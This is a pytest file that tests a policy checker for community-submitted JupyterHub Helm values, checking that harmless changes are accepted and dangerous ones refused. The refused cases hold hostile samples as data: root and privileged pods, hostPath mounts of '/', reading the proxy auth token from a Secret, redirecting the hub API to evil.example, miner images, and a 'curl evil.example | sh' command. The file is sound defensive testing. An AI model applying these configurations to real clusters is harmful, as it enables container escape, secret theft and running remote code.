"""A table of community changes, judged at the top level (z2jh), under `jupyterhub.`
(basehub) and under `basehub.jupyterhub.` (daskhub): the harmless ones accepted, each
dangerous one refused by the rule named, at the line marked `#!` in the case's text.

A case is written once at z2jh's level; the table wraps it in each nesting (so its
lines move) and judges it with that nesting's policy.
"""

from __future__ import annotations

from typing import Any

import pytest

from hubfleet.base.yamlio import load_yaml
from hubfleet.community.policy import Entry, Policy, check_data
from hubfleet.config.community import DEFAULT_ALLOW, DEFAULT_DENY, PodBounds

NESTINGS: dict[str, tuple[str, ...]] = {
    "z2jh": (),
    "basehub": ("jupyterhub",),
    "daskhub": ("basehub", "jupyterhub"),
}
ALLOW = (
    "singleuser.image",
    "singleuser.profileList",
    "singleuser.defaultUrl",
    "singleuser.memory",
    "singleuser.cpu",
    "singleuser.uid",
    "singleuser.extraEnv",
    "singleuser.extraLabels",
    "singleuser.extraAnnotations",
    "singleuser.extraPodConfig",
    "singleuser.nodeSelector",
    "singleuser.extraTolerations",
    "hub.config.KubeSpawner",
    "hub.config.Spawner",
    "custom.**",
)
BOUNDS = PodBounds.model_validate(
    {
        "registries": ["quay.io/jupyter"],
        "node_selectors": {"hub.jupyter.org/node-purpose": ["user"]},
        "tolerations": [
            {
                "key": "hub.jupyter.org/dedicated",
                "operator": "Equal",
                "value": "user",
                "effect": "NoSchedule",
            }
        ],
        "max_memory": "8G",
        "max_cpu": 4,
    }
)


def policy(nesting: tuple[str, ...], *, allow: tuple[str, ...] = ALLOW) -> Policy:
    """The table's policy: a wide allow list (so that the pod checks are what refuses)
    and only `proxy` denied."""
    return Policy(
        tuple(Entry(p, "test") for p in allow),
        (Entry("proxy", "test"),),
        nesting=nesting,
        pod=BOUNDS,
    )


def nested(text: str, nesting: tuple[str, ...]) -> str:
    """`text` (z2jh's level) under the keys of `nesting`."""
    head = "".join(f"{'  ' * depth}{key}:\n" for depth, key in enumerate(nesting))
    pad = "  " * len(nesting)
    return head + "".join(f"{pad}{line}\n" if line else "\n" for line in text.splitlines())


def marked_line(text: str) -> int:
    lines = [n for n, line in enumerate(text.splitlines(), start=1) if "#!" in line]
    assert len(lines) == 1, text
    return lines[0]


def judge(text: str, nesting: tuple[str, ...], **kw: Any) -> list[tuple[str, int, str]]:
    doc = load_yaml(text, "community.values.yaml")
    return [
        (f.rule, doc.lines.line(f.key), f.message)
        for f in check_data(policy(nesting, **kw), doc.data)
    ]


ACCEPTED: dict[str, str] = {
    "an image tag from an allowed registry": """
singleuser:
  image:
    name: quay.io/jupyter/scipy-notebook
    tag: '2026-01-05'
""",
    "a tag alone (the platform's image name)": """
singleuser:
  image:
    tag: '2026-01-05'
""",
    "a profile's description and display name": """
singleuser:
  profileList:
  - display_name: Small
    description: 2 GB of memory, 1 CPU
    default: true
""",
    "memory within bounds": """
singleuser:
  memory:
    limit: 4G
    guarantee: 1G
  cpu:
    limit: 2
""",
    "a profile's resources within bounds": """
singleuser:
  profileList:
  - display_name: Large
    kubespawner_override:
      mem_limit: 8G
      mem_guarantee: 6G
      cpu_limit: 4
      cpu_guarantee: 500m
""",
    "the policy's node and toleration": """
singleuser:
  profileList:
  - display_name: User nodes
    kubespawner_override:
      node_selector:
        hub.jupyter.org/node-purpose: user
      tolerations:
      - key: hub.jupyter.org/dedicated
        operator: Equal
        value: user
        effect: NoSchedule
      node_affinity_required:
      - matchExpressions:
        - key: hub.jupyter.org/node-purpose
          operator: In
          values: [user]
""",
    "a profile option's choice of an allowed image": """
singleuser:
  profileList:
  - display_name: Choose
    profile_options:
      image:
        display_name: Image
        choices:
          scipy:
            display_name: SciPy
            kubespawner_override:
              image: quay.io/jupyter/scipy-notebook:2026-01-05
""",
    "an unlisted choice inside an allowed registry": """
singleuser:
  profileList:
  - display_name: Any tag
    profile_options:
      image:
        display_name: Image
        unlisted_choice:
          enabled: true
          display_name: Tag
          kubespawner_override:
            image: quay.io/jupyter/scipy-notebook:{value}
""",
    "plain environment": """
singleuser:
  extraEnv:
    EDITOR: vim
    JUPYTER_ENABLE_LAB: 'yes'
    KEYBOARD: us
""",
    "a registry host in upper case": """
singleuser:
  image:
    name: QUAY.IO/jupyter/base-notebook
""",
    "a non-root user, spelled both ways": """
singleuser:
  uid: 1000
  profileList:
  - display_name: Custom
    kubespawner_override:
      uid: 1001
      container_security_context:
        runAsUser: 1001
        run_as_non_root: true
        allowPrivilegeEscalation: false
        capabilities:
          drop: [ALL]
""",
    "a course label": """
singleuser:
  extraLabels:
    course: intro-python
""",
    "a KubeSpawner setting in hub.config": """
hub:
  config:
    KubeSpawner:
      default_url: /lab
      start_timeout: 600
""",
    "harmless extraPodConfig": """
singleuser:
  extraPodConfig:
    terminationGracePeriodSeconds: 30
    enableServiceLinks: false
""",
    "a free-form custom key": """
custom:
  homepage:
    templateVars:
      org: Example
""",
}

REFUSED: dict[str, tuple[str, str]] = {
    "uid 0 in a profile": (
        "pod.user-root",
        """
singleuser:
  profileList:
  - display_name: Root
    kubespawner_override:
      uid: 0  #!
""",
    ),
    "uid '0' as a string": (
        "pod.user-root",
        """
singleuser:
  profileList:
  - display_name: Root
    kubespawner_override:
      uid: '0'  #!
""",
    ),
    "uid null (the image's user)": (
        "pod.user-root",
        """
singleuser:
  profileList:
  - display_name: Root
    kubespawner_override:
      uid: null  #!
""",
    ),
    "z2jh's singleuser.uid 0": (
        "pod.user-root",
        """
singleuser:
  uid: 0  #!
""",
    ),
    "a hostPath volume": (
        "pod.host-path",
        """
singleuser:
  profileList:
  - display_name: Host
    kubespawner_override:
      volumes:
      - name: root
        hostPath:  #!
          path: /
      volume_mounts:
      - name: root
        mountPath: /host
""",
    ),
    "runAsUser 0 in container_security_context": (
        "pod.user-root",
        """
singleuser:
  profileList:
  - display_name: Root
    kubespawner_override:
      container_security_context:
        runAsUser: 0  #!
""",
    ),
    "SYS_ADMIN added": (
        "pod.capabilities",
        """
singleuser:
  profileList:
  - display_name: Admin
    kubespawner_override:
      container_security_context:
        capabilities:
          add: [SYS_ADMIN]  #!
""",
    ),
    "sys_admin in another case and snake_case keys": (
        "pod.capabilities",
        """
singleuser:
  profileList:
  - display_name: Admin
    kubespawner_override:
      container_security_context:
        Capabilities:
          ADD: [sys_admin]  #!
""",
    ),
    "a label granting access to the proxy API": (
        "pod.network-access",
        """
singleuser:
  profileList:
  - display_name: Net
    kubespawner_override:
      extra_labels:
        hub.jupyter.org/network-access-proxy-api: 'true'  #!
""",
    ),
    "a network-access label in another case": (
        "pod.network-access",
        """
singleuser:
  extraLabels:
    Hub.Jupyter.Org/Network-Access-Hub: 'true'  #!
""",
    ),
    "a label that selects the hub's policy": (
        "pod.selector-label",
        """
singleuser:
  extraLabels:
    component: hub  #!
""",
    ),
    "node affinity onto core nodes": (
        "pod.node-placement",
        """
singleuser:
  profileList:
  - display_name: Core
    kubespawner_override:
      node_affinity_required:
      - matchExpressions:
        - key: hub.jupyter.org/node-purpose  #!
          operator: In
          values: [core]
""",
    ),
    "a node selector onto core nodes": (
        "pod.node-placement",
        """
singleuser:
  nodeSelector:
    hub.jupyter.org/node-purpose: core  #!
""",
    ),
    "a profile option's choice from another registry": (
        "pod.image-registry",
        """
singleuser:
  profileList:
  - display_name: Choose
    profile_options:
      image:
        display_name: Image
        choices:
          miner:
            display_name: Miner
            kubespawner_override:
              image: ghcr.io/someone/miner:1  #!
""",
    ),
    "an unlisted choice of any image": (
        "pod.image-registry",
        """
singleuser:
  profileList:
  - display_name: Any image
    profile_options:
      image:
        display_name: Image
        unlisted_choice:
          enabled: true
          kubespawner_override:
            image: '{value}'  #!
""",
    ),
    "a registry prefix lookalike": (
        "pod.image-registry",
        """
singleuser:
  image:
    name: quay.io.evil.example/jupyter/base  #!
""",
    ),
    "hostNetwork in extraPodConfig": (
        "pod.host-namespace",
        """
singleuser:
  extraPodConfig:
    hostNetwork: true  #!
""",
    ),
    "hostPID in a profile's extra_pod_config": (
        "pod.host-namespace",
        """
singleuser:
  profileList:
  - display_name: PID
    kubespawner_override:
      extra_pod_config:
        host_pid: 'True'  #!
""",
    ),
    "privileged in hub.config.KubeSpawner": (
        "pod.privileged",
        """
hub:
  config:
    KubeSpawner:
      privileged: true  #!
""",
    ),
    "privileged as a string in a container context": (
        "pod.privileged",
        """
singleuser:
  profileList:
  - display_name: P
    kubespawner_override:
      container_security_context:
        privileged: 'true'  #!
""",
    ),
    "privilege escalation": (
        "pod.privilege-escalation",
        """
singleuser:
  profileList:
  - display_name: P
    kubespawner_override:
      allow_privilege_escalation: true  #!
""",
    ),
    "AWS_SECRET_ACCESS_KEY in environment": (
        "pod.plaintext-secret",
        """
singleuser:
  profileList:
  - display_name: S3
    kubespawner_override:
      environment:
        AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMIK7MDENGbPxRfiCY  #!
""",
    ),
    "a secret env name in lower case": (
        "pod.plaintext-secret",
        """
singleuser:
  extraEnv:
    aws_secret_access_key: wJalrXUtnFEMIK7MDENGbPxRfiCY  #!
""",
    ),
    "a token as a list item": (
        "pod.plaintext-secret",
        """
singleuser:
  profileList:
  - display_name: Git
    kubespawner_override:
      environment:
      - name: GITHUB_TOKEN  #!
        value: ghp_0123456789abcdef
""",
    ),
    "a secret env in the base Spawner's config": (
        "pod.plaintext-secret",
        """
hub:
  config:
    Spawner:
      environment:
        DB_PASSWORD: hunter2  #!
""",
    ),
    "an env read from a Secret of the namespace": (
        "pod.secret-ref",
        """
singleuser:
  extraEnv:
    STOLEN:  #!
      valueFrom:
        secretKeyRef:
          name: hub
          key: hub.config.ConfigurableHTTPProxy.auth_token
""",
    ),
    "redirecting the hub API": (
        "pod.hub-connection",
        """
singleuser:
  extraEnv:
    JUPYTERHUB_API_URL: https://evil.example/hub/api  #!
""",
    ),
    "memory above the bound": (
        "pod.resources",
        """
singleuser:
  profileList:
  - display_name: Huge
    kubespawner_override:
      mem_limit: 64G  #!
""",
    ),
    "z2jh memory in Gi above the bound": (
        "pod.resources",
        """
singleuser:
  memory:
    limit: 16Gi  #!
""",
    ),
    "a GPU the policy does not bound": (
        "pod.resources",
        """
singleuser:
  profileList:
  - display_name: GPU
    kubespawner_override:
      extra_resource_limits:  #!
        nvidia.com/gpu: '1'
""",
    ),
    "a toleration of every taint": (
        "pod.toleration",
        """
singleuser:
  extraTolerations:
  - operator: Exists  #!
""",
    ),
    "an init container as root from any registry": (
        "pod.user-root",
        """
singleuser:
  profileList:
  - display_name: Init
    kubespawner_override:
      init_containers:
      - name: setup  #!
        image: quay.io/jupyter/base-notebook
        command: [chown, -R, '0', /home]
""",
    ),
    "an extra container from another registry": (
        "pod.image-registry",
        """
singleuser:
  extraPodConfig:
    containers:
    - name: side
      image: docker.io/evil/miner  #!
      securityContext:
        runAsNonRoot: true
""",
    ),
    "a merge key reusing a dangerous mapping": (
        "pod.user-root",
        """
custom:
  stash: &root
    uid: 0  #!
singleuser:
  profileList:
  - display_name: Merged
    kubespawner_override:
      <<: *root
      cpu_limit: 1
""",
    ),
    "an alias reusing a hostPath volume list": (
        "pod.host-path",
        """
custom:
  volumes: &vols
  - name: root
    hostPath: {path: /}  #!
singleuser:
  profileList:
  - display_name: Alias
    kubespawner_override:
      volumes: *vols
""",
    ),
    "fsGroup 0 in pod_security_context": (
        "pod.user-root",
        """
singleuser:
  profileList:
  - display_name: G
    kubespawner_override:
      pod_security_context:
        fsGroup: 0  #!
""",
    ),
    "group 0 as a list item": (
        "pod.user-root",
        """
singleuser:
  profileList:
  - display_name: G
    kubespawner_override:
      supplemental_gids:
      - 100
      - 0  #!
""",
    ),
    "a service account": (
        "pod.service-account",
        """
singleuser:
  profileList:
  - display_name: SA
    kubespawner_override:
      service_account: deployer  #!
""",
    ),
    "another namespace": (
        "pod.namespace",
        """
hub:
  config:
    KubeSpawner:
      namespace: kube-system  #!
""",
    ),
    "unconfined seccomp": (
        "pod.unconfined",
        """
singleuser:
  extraPodConfig:
    securityContext:
      seccompProfile:  #!
        type: Unconfined
""",
    ),
    "an AppArmor annotation": (
        "pod.unconfined",
        """
singleuser:
  extraAnnotations:
    container.apparmor.security.beta.kubernetes.io/notebook: unconfined  #!
""",
    ),
    "a uid the user fills in through an unlisted choice": (
        "pod.user-root",
        """
singleuser:
  profileList:
  - display_name: Any user
    profile_options:
      uid:
        display_name: User id
        unlisted_choice:
          enabled: true
          kubespawner_override:
            uid: '{value}'  #!
""",
    ),
    "privileged the user fills in": (
        "pod.privileged",
        """
singleuser:
  profileList:
  - display_name: P
    profile_options:
      mode:
        display_name: Mode
        unlisted_choice:
          enabled: true
          kubespawner_override:
            container_security_context:
              privileged: '{value}'  #!
""",
    ),
    "image_spec, KubeSpawner's older name": (
        "pod.image-registry",
        """
singleuser:
  profileList:
  - display_name: Old
    kubespawner_override:
      image_spec: docker.io/evil/miner:1  #!
""",
    ),
    "runAsNonRoot false": (
        "pod.user-root",
        """
singleuser:
  extraPodConfig:
    securityContext:
      runAsNonRoot: 'false'  #!
""",
    ),
    "a key outside the allow list": (
        "policy.not-allowed",
        """
singleuser:
  cmd: [sh, -c, 'curl evil.example | sh']  #!
""",
    ),
    "a key in another case than allowed": (
        "policy.not-allowed",
        """
Singleuser:  #!
  image:
    name: quay.io/jupyter/base-notebook
""",
    ),
    "proxy at z2jh's nesting": (
        "policy.denied",
        """
proxy:  #!
  https:
    enabled: false
""",
    ),
}


@pytest.mark.parametrize("nesting", NESTINGS, ids=str)
@pytest.mark.parametrize("case", ACCEPTED, ids=str)
def test_harmless_change_is_accepted(case: str, nesting: str) -> None:
    text = nested(ACCEPTED[case], NESTINGS[nesting])
    assert judge(text, NESTINGS[nesting]) == []


@pytest.mark.parametrize("nesting", NESTINGS, ids=str)
@pytest.mark.parametrize("case", REFUSED, ids=str)
def test_dangerous_change_is_refused_at_its_line(case: str, nesting: str) -> None:
    rule, body = REFUSED[case]
    text = nested(body, NESTINGS[nesting])
    found = judge(text, NESTINGS[nesting])
    line = marked_line(text)
    assert (rule, line) in [(r, n) for r, n, _ in found], (case, line, found)
    message = next(m for r, n, m in found if (r, n) == (rule, line))
    assert message.startswith(f"{rule}: "), message


# --------------------------------------------------- the nesting itself


def test_z2jh_keys_at_the_wrong_nesting_are_refused() -> None:
    # a basehub fleet: z2jh's keys sit under `jupyterhub.`; at the top they are basehub's
    found = judge("singleuser:\n  uid: 0\n", ("jupyterhub",))
    assert [(r, n) for r, n, _ in found] == [("policy.not-allowed", 1)]
    # a daskhub fleet: `jupyterhub.` alone is basehub's dependency's parent, not z2jh
    found = judge("jupyterhub:\n  singleuser:\n    uid: 1000\n", ("basehub", "jupyterhub"))
    assert [(r, n) for r, n, _ in found] == [("policy.not-allowed", 1)]


def test_wrapper_chart_keys_need_a_full_path_entry() -> None:
    text = "dask-gateway:\n  gateway:\n    backend:\n      image:\n        tag: '2026.1'\n"
    nesting = ("basehub", "jupyterhub")
    assert [(r, n) for r, n, _ in judge(text, nesting)] == [("policy.not-allowed", 1)]
    hint = check_data(policy(nesting), load_yaml(text, "x").data)[0].hint
    assert "'/dask-gateway'" in hint
    widened = (*ALLOW, "/dask-gateway.gateway.backend.image.tag")
    assert judge(text, nesting, allow=widened) == []
    # a relative entry never reaches outside z2jh's nesting
    assert judge(text, nesting, allow=(*ALLOW, "dask-gateway")) != []


@pytest.mark.parametrize("nesting", NESTINGS, ids=str)
def test_built_in_policy_refuses_the_issue_bypasses(nesting: str) -> None:
    keys = NESTINGS[nesting]
    builtin = Policy(
        tuple(Entry(p, "built-in") for p in DEFAULT_ALLOW),
        tuple(Entry(p, "built-in") for p in DEFAULT_DENY),
        nesting=keys,
    )
    text = nested("proxy:\n  https:\n    enabled: false  #!\n", keys)
    doc = load_yaml(text, "x")
    rules = {(f.rule, doc.lines.line(f.key)) for f in check_data(builtin, doc.data)}
    assert ("policy.denied", marked_line(text) - 2) in rules
    # the built-in deny entries ignore case
    text = nested(
        "singleuser:\n  profileList:\n  - kubespawner_override:\n"
        "      environment:\n        AWS_Secret_Access_Key: x  #!\n",
        keys,
    )
    doc = load_yaml(text, "x")
    rules = {(f.rule, doc.lines.line(f.key)) for f in check_data(builtin, doc.data)}
    assert ("policy.denied", marked_line(text)) in rules
    assert ("pod.plaintext-secret", marked_line(text)) in rules
    # no registry is stated: every image is refused
    text = nested("singleuser:\n  image:\n    name: quay.io/jupyter/base  #!\n", keys)
    doc = load_yaml(text, "x")
    rules = {(f.rule, doc.lines.line(f.key)) for f in check_data(builtin, doc.data)}
    assert rules == {("pod.image-registry", marked_line(text))}


def test_the_table_is_large_enough() -> None:
    assert len(ACCEPTED) + len(REFUSED) >= 30


def test_a_large_community_file_is_judged_fast() -> None:
    """Each key is matched once against the entries (its parents were judged on the way
    down): 600 profiles with options (about 280 KB) take well under a second on one core."""
    import time

    profile = """- display_name: P{i}
  kubespawner_override:
    image: quay.io/jupyter/scipy-notebook:{i}
    mem_limit: 4G
    environment: {{EDITOR: vim, N: '{i}'}}
  profile_options:
    image:
      display_name: Image
      choices:
        a: {{display_name: A, kubespawner_override: {{image: 'quay.io/jupyter/base:{i}'}}}}
"""
    body = "singleuser:\n  profileList:\n" + "".join(
        f"  {line}\n" for i in range(600) for line in profile.format(i=i).splitlines()
    )
    builtin = Policy(
        tuple(Entry(p, "built-in") for p in DEFAULT_ALLOW),
        tuple(Entry(p, "built-in") for p in DEFAULT_DENY),
        nesting=("basehub", "jupyterhub"),
        pod=BOUNDS,
    )
    data = load_yaml(nested(body, ("basehub", "jupyterhub")), "x").data
    started = time.perf_counter()
    found = check_data(builtin, data)
    assert time.perf_counter() - started < 10  # 0.1 s here; main's walk took 26 s for 300
    assert found == []
